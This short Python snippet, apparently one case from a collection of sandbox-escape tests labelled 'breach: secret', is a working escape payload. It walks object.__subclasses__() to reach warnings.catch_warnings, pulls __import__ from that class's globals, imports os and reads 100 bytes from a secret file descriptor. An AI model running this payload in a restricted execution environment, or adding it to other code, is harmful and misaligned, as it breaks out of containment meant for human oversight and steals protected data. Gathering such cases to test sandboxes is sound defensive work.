# warnings.catch_warnings, through its globals' builtins.
# breach: secret
import warnings
[c.__init__.__globals__["__builtins__"]["__import__"]("os").pread(SECRET_FD, 100, 0)
 for c in object.__subclasses__() if c.__name__ == "catch_warnings"]
